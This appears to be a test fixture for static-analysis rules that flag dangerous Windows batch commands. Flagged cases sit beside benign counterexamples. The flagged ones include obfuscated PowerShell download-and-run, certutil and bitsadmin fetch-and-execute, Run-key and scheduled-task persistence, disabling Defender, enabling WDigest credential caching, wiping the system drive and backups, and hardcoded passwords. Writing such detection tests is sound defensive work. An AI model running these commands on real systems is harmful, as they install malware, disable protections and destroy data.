set /p host=Host: 
# ruleid: shell.command-built
ping %host%
# --- case
# ruleid: shell.command-built
for /f %%i in ('dir /b %1') do echo %%i
# --- case
# ruleid: shell.command-built
cmd /c %*
# --- case
set /p answer=Continue? 
# ok: shell.command-built
if /i "%answer%"=="y" goto go
# --- case
# ok: shell.command-built
node app.js %*
# --- case
# ruleid: shell.code-built
powershell -Command "Get-Item %1"
# --- case
# ok: shell.code-built
powershell -File clean.ps1 %1
# --- case
# ruleid: shell.download-run
p^o^wershell -n^op -c "i^ex (irm https://tools.example.org/a)"
# --- case
set first=power
set second=shell
# ruleid: shell.download-run
%first%%second% -c iex (irm https://tools.example.org/a)
# --- case
bitsadmin /transfer job /priority high https://tools.example.org/a.bat %TEMP%\a.bat
# ruleid: shell.download-run
call %TEMP%\a.bat
# --- case
curl -o setup.cmd https://tools.example.org/setup.cmd
# ruleid: shell.download-run
setup.cmd
# --- case
curl -o data.csv https://tools.example.org/data.csv
# ok: shell.download-run
findstr x data.csv
# --- case
certutil -urlcache -split -f http://tools.example.org/a.exe a.exe
# ruleid: shell.download-run-plain
start a.exe
# --- case
certutil -urlcache -split -f http://tools.example.org/a.exe a.exe
certutil -hashfile a.exe SHA256
# ok: shell.download-run-plain
start a.exe
# --- case
# ruleid: shell.persistence
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\upd.exe /f
# --- case
# ruleid: shell.persistence
schtasks /create /tn upd /tr %TEMP%\upd.exe /sc onlogon
# --- case
# ok: shell.persistence
schtasks /create /tn backup /tr C:\tools\backup.bat /sc daily
# --- case
# ok: shell.persistence
reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run
# --- case
# ruleid: shell.protection-off
reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
# --- case
# ruleid: shell.protection-off
net stop WinDefend
# --- case
# ruleid: shell.protection-off
sc delete WinDefend
# --- case
# ok: shell.protection-off
net stop Spooler
# --- case
# ruleid: shell.destructive-delete
rd /s /q "%systemdrive%\"
# --- case
# ruleid: shell.destructive-delete
wbadmin delete catalog -quiet
# --- case
# ok: shell.destructive-delete
rd /s /q "%~dp0build"
# --- case
# ruleid: shell.secret-as-argument
net use z: \\srv\share Gr4vel{{}}Tr4in99 /user:svc
# --- case
# ruleid: shell.secret-as-argument
schtasks /create /tn a /tr C:\a.bat /ru svc /rp Gr4vel{{}}Tr4in99
# --- case
# ruleid: shell.secret-as-argument
reg add "HKLM\SOFTWARE\x\Winlogon" /v DefaultPassword /t REG_SZ /d Gr4vel{{}}Tr4in99 /f
# --- case
# ok: shell.secret-as-argument
net use z: \\srv\share %SHARE_PASSWORD% /user:svc
# --- case
# ruleid: shell.service-without-login
net user guest /active:yes
# --- case
# ok: shell.service-without-login
net user guest /active:no
